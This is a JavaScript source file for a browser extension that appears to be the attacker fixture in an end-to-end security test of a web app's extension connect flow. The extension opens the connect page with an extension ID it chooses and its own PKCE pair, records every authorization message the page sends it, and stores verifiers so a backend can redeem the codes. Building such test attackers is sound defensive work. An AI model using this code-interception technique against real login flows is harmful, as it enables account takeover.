// The attacker of issue 15: an extension with no permissions at all, only `externally_connectable`
// for the web app (so the connect page may message it). It opens the web app's connect page
// with an extension Id of its choice and a PKCE pair of its own, and keeps whatever the page
// sends it; its backend would then exchange a code at `/v1/auth/token` with its own verifier
// (tests/e2e/handoff.test.mjs plays that backend).

const APP_ORIGIN = 'https://app.customercity.com';

/** Every message the web app sent to this extension: `{message, origin}`. */
globalThis.received = [];
/** The PKCE verifier of each state this extension asked with. */
globalThis.verifiers = {};

chrome.runtime.onMessageExternal.addListener((message, sender, sendResponse) => {
  globalThis.received.push({ message, origin: sender.origin });
  sendResponse({ ok: true }); // so the page tells the user "Connected"
});

const base64url = (bytes) => btoa(String.fromCharCode(...bytes))
  .replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');

/** Opens the connect page asking a code for `extensionId` (its own, or another's); resolves to
 *  the state it used. `chrome.tabs.create` needs no permission. */
globalThis.askForCode = async (extensionId) => {
  const random = crypto.getRandomValues(new Uint8Array(64));
  const state = base64url(random.slice(0, 32));
  const verifier = base64url(random.slice(32));
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier));
  globalThis.verifiers[state] = verifier;
  const query = new URLSearchParams({ extensionId, state, codeChallenge: base64url(new Uint8Array(digest)) });
  await chrome.tabs.create({ url: `${APP_ORIGIN}/extension/connect?${query}` });
  return state;
};
